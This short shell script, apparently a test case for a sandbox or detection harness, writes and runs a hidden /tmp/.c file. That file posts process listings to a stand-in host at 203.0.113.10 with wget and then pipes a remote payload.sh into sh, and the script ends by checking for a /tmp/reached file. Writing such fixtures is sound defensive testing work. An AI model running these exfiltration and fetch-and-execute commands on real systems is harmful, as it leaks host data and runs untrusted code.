#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.c <<'END'
n=0; while test $n -lt 5; do
    ps | head -n 20 >/tmp/.ps; wget -q -O /tmp/.o --post-file /tmp/.ps "http://203.0.113.10:10255/j$n"; n=$((n + 1)); usleep 300000
done
wget -q -O- http://203.0.113.10:2375/payload.sh | sh
END
sh /tmp/.c
test -e /tmp/reached
took_place
